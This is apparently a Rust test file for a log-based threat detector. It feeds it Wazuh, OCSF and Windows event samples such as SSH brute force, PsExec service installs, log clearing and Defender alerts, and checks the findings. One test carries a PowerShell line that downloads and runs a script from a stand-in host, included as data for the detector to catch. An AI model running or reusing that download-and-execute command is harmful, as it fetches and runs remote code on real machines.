//! EDRs and Windows. Shapes: Wazuh documentation "alerts.json" and the agents' `windows_eventchannel` decoder; the OCSF
//! schema 1.0 and 1.3 (schema.ocsf.io, classes security_finding and detection_finding); events by Microsoft's pages of
//! each number.

use std::fmt::Write as _;

use finding::{Kind, Level};

use super::{account, one, read, sample, told};

#[test]
fn wazuh() {
    let seen = read(sample("wazuh-alerts.json"));
    assert_eq!(account(&seen), ("wazuh", 3, 0));
    // Found, and no word of what was done about it.
    assert_eq!(told(&seen), [one(Kind::MalwareFound, Level::Dated, "192.168.1.31")]);
    assert!(seen.devices.iter().any(|device| device.names == ["KEIRI-PC"]));
    assert!(seen.devices.iter().any(|device| device.names == ["web01"]));
}

#[test]
fn passwords_guessed_by_ssh_are_told_by_wazuh() {
    let mut alerts = String::new();
    for second in 10..40 {
        writeln!(
            alerts,
            r#"{{"timestamp":"2026-10-06T09:20:{second}.000+0900","rule":{{"level":5,"description":"sshd: authentication failed.","id":"5716","groups":["syslog","sshd","authentication_failed"]}},"agent":{{"id":"004","name":"web01","ip":"192.168.1.10"}},"data":{{"srcip":"192.168.1.66","dstuser":"user{second}"}}}}"#
        )
        .unwrap();
    }
    let seen = read(alerts);
    assert_eq!(told(&seen), [one(Kind::BruteForce, Level::NoHurry, "192.168.1.10")]);
    assert_eq!(seen.findings[0].count, 30);
}

#[test]
fn ocsf() {
    let seen = read(sample("ocsf.json"));
    assert_eq!(account(&seen), ("ocsf", 3, 0));
    let wanted = [
        one(Kind::MalwareFound, Level::NoHurry, "192.168.1.31"),
        one(Kind::BruteForce, Level::NoHurry, "192.168.1.5"),
        one(Kind::SystemChange, Level::Record, "192.168.1.31"),
    ];
    assert_eq!(told(&seen), wanted);
}

#[cfg(feature = "evtx")]
mod windows {
    use super::super::evtx_file::{Log, event};
    use super::*;

    const SECURITY: &str = "Security";

    #[test]
    fn windows_event_logs() {
        let mut log = Log::default();
        for minute in 0..12 {
            let user = if minute % 2 == 0 { "admin" } else { "backup" };
            log.add(event(
                4625,
                SECURITY,
                minute,
                &[("TargetUserName", user), ("LogonType", "3"), ("IpAddress", "198.51.100.23")],
            ));
        }
        log.add(event(
            4624,
            SECURITY,
            13,
            &[("TargetUserName", "admin"), ("LogonType", "10"), ("IpAddress", "198.51.100.23")],
        ));
        log.add(event(
            7045,
            "System",
            14,
            &[("ServiceName", "PSEXESVC"), ("ImagePath", "%SystemRoot%\\PSEXESVC.exe")],
        ));
        log.add(event(
            7045,
            "System",
            15,
            &[("ServiceName", "Printer"), ("ImagePath", "C:\\Program Files\\Printer\\p.exe")],
        ));
        log.add(event(4720, SECURITY, 16, &[("TargetUserName", "helpdesk")]));
        log.add(event(1102, SECURITY, 17, &[("SubjectUserName", "admin")]));
        let defender = "Microsoft-Windows-Windows Defender/Operational";
        log.add(event(
            1116,
            defender,
            18,
            &[("Threat Name", "Trojan:Win32/Agent.ABC"), ("Path", "C:\\x.exe")],
        ));
        log.add(event(
            1117,
            defender,
            19,
            &[("Threat Name", "Trojan:Win32/Agent.ABC"), ("Path", "C:\\x.exe")],
        ));
        let seen = read(log.bytes());
        assert_eq!(account(&seen), ("windows", 19, 0));
        let told: Vec<_> =
            seen.findings.iter().map(|found| (found.kind, found.severity, found.rule.as_str())).collect();
        let wanted = [
            // Guessed as a network sign-in, used as remote desktop.
            (Kind::RemoteBreakIn, Level::Now, "remote-break-in/success-after-refusals"),
            (Kind::LateralMovement, Level::Dated, "lateral-movement/remote-start-service"),
            (Kind::MalwareFound, Level::NoHurry, "malware-found/defender"),
            (Kind::SystemChange, Level::NoHurry, "system-change/new-account"),
            (Kind::SystemChange, Level::NoHurry, "system-change/log-cleared"),
            (Kind::SystemChange, Level::Record, "system-change/new-service"),
        ];
        assert_eq!(told, wanted);
        assert_eq!(seen.devices[0].names, ["KEIRI-PC"]);
    }

    #[test]
    fn an_ordinary_day_of_windows_is_quiet() {
        let mut log = Log::default();
        for minute in 0..20 {
            log.add(event(
                4624,
                SECURITY,
                minute,
                &[("TargetUserName", "KEIRI-PC$"), ("LogonType", "3"), ("IpAddress", "192.168.1.5")],
            ));
            log.add(event(
                4624,
                SECURITY,
                minute,
                &[("TargetUserName", "sato"), ("LogonType", "10"), ("IpAddress", "192.168.1.20")],
            ));
            log.add(event(4648, SECURITY, minute, &[("TargetUserName", "sato"), ("IpAddress", "-")]));
        }
        log.add(event(
            4625,
            SECURITY,
            51,
            &[("TargetUserName", "sato"), ("LogonType", "2"), ("IpAddress", "127.0.0.1")],
        ));
        log.add(event(
            4698,
            SECURITY,
            52,
            &[
                ("TaskName", "\\Updater"),
                ("TaskContent", "<Exec><Command>C:\\Program Files\\U\\u.exe</Command></Exec>"),
            ],
        ));
        log.add(event(
            4104,
            "Microsoft-Windows-PowerShell/Operational",
            53,
            &[("ScriptBlockText", "Get-ChildItem | Sort-Object Name")],
        ));
        let seen = read(log.bytes());
        assert!(seen.alerts.is_empty(), "{:?}", told(&seen));
    }

    #[test]
    fn a_document_that_starts_a_shell_and_a_script_that_hides_are_malware() {
        let mut log = Log::default();
        let word = "C:\\Program Files\\Microsoft Office\\WINWORD.EXE";
        let shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        log.add(event(4688, SECURITY, 1, &[("ParentProcessName", word), ("NewProcessName", shell)]));
        let script = "IEX ((New-Object Net.WebClient).DownloadString('http://files.example.net/a'))";
        log.add(event(4104, "Microsoft-Windows-PowerShell/Operational", 2, &[("ScriptBlockText", script)]));
        let kinds: Vec<_> =
            told(&read(log.bytes())).into_iter().map(|(kind, level, _)| (kind, level)).collect();
        assert_eq!(kinds, [(Kind::MalwareFound, Level::Dated); 2]);
    }

    #[test]
    fn a_damaged_chunk_is_counted_and_the_next_is_read() {
        let mut log = Log::default();
        log.add(event(4720, SECURITY, 1, &[("TargetUserName", "helpdesk")]));
        let mut bytes = log.bytes();
        let chunk = bytes[4_096..].to_vec();
        bytes[4_096] = b'x';
        bytes.extend(chunk);
        let seen = read(bytes);
        assert_eq!(account(&seen), ("windows", 2, 1));
        assert_eq!(seen.findings.len(), 1);
    }
}
